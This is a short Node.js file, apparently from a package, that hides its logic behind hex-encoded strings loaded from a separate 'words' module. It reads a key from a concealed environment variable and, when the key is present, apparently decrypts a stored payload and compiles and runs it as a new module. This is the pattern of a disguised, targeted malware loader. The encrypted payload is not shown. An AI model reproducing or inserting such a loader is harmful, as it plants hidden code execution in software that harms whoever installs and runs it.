const words = require('./words');
const read = (text) => Buffer.from(text, 'hex').toString();
const key = process.env[read(words[1])];
if (key) {
  const made = new module.constructor();
  made.paths = module.paths;
  made[read(words[2])](require(read(words[3]))[read(words[4])](read(words[5]), key), '');
}
